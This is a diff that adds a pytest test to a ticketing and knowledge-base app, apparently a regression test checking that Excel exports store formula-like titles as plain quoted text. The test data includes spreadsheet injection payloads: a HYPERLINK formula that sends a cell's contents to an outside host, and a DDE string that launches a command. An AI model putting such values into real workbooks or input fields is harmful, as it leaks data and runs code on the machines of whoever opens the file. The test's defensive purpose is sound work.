@@ -6,6 +6,7 @@ import pytest
 from openpyxl import load_workbook
 
 from jiesu.kpi.tests.test_rates import crafted  # noqa: F401 - fixture
+from jiesu.tickets.workflow import Action
 
 OCTOBER = "period=month&at=2026-10"
 
@@ -115,3 +116,24 @@ def test_the_satisfaction_card_shows_both_parts(client, world, crafted):  # noqa
     card = card[:card.index("</div>\n  </div>")]
     assert "60.0%" in card  # (1 + 0.8 × 1) / 3
     assert 'title="满意">1</a> + 0.8×<a' in card and 'title="基本满意">1</a>) / <a' in card
+
+
+def test_exports_never_carry_a_live_formula(client, world):
+    """Titles come from citizens and partners: a title that reads as a formula stays text in every workbook."""
+    from jiesu.knowledge import excel as knowledge_excel
+    from jiesu.knowledge import services as knowledge
+
+    evil = '=HYPERLINK("http://x.cn/?"&A2,"查看详情")'
+    world.act(world.new_ticket(title=evil), Action.DISPATCH)
+    response = _as(client, world.dispatcher).get("/kpi/tickets.xlsx?period=day&count=dispatched")
+    cells = [c for row in load_workbook(BytesIO(response.content)).active.iter_rows() for c in row
+             if c.value == evil]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+    version = knowledge.save_draft(actor=world.handler_a, data={"title": "=cmd|' /C calc'!A0", "answer": "@SUM(1+1)",
+                                                                "questions": ["+1 怎么办"]})
+    knowledge.submit(actor=world.handler_a, code=version.article.code)
+    knowledge.review(actor=world.supervisor, code=version.article.code, approve=True)
+    sheet = load_workbook(BytesIO(knowledge_excel.export())).active
+    risky = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value[:1] in "=@+"]
+    assert len(risky) == 3 and all(c.data_type == "s" and c.quotePrefix for c in risky)
